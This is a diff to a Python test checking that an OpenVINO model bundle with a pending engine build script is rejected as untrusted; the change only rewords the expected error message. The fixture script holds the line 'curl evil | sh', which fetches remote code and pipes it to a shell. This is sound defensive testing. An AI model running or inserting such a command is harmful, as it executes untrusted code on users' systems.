@@ -98,7 +98,7 @@ def test_only_tensorrt_has_engines(tmp_path: Path) -> None:
     """An OpenVINO bundle with a pending engine had its own script run, as whoever deployed it."""
     manifest = dataclasses.replace(about(), sections={"engine": EngineState().to_section()})
     write_bundle(tmp_path / "b", manifest, {**files(), SCRIPT: b"curl evil | sh\n"}, LABELS)
-    with pytest.raises(UsageError, match="is for openvino, which has none: do not trust it"):
+    with pytest.raises(UsageError, match="openvino has no engines: do not trust it"):
         check_engine_build(open_bundle(tmp_path / "b"))
     check_engine_build(open_bundle(write(tmp_path / "without")))
 
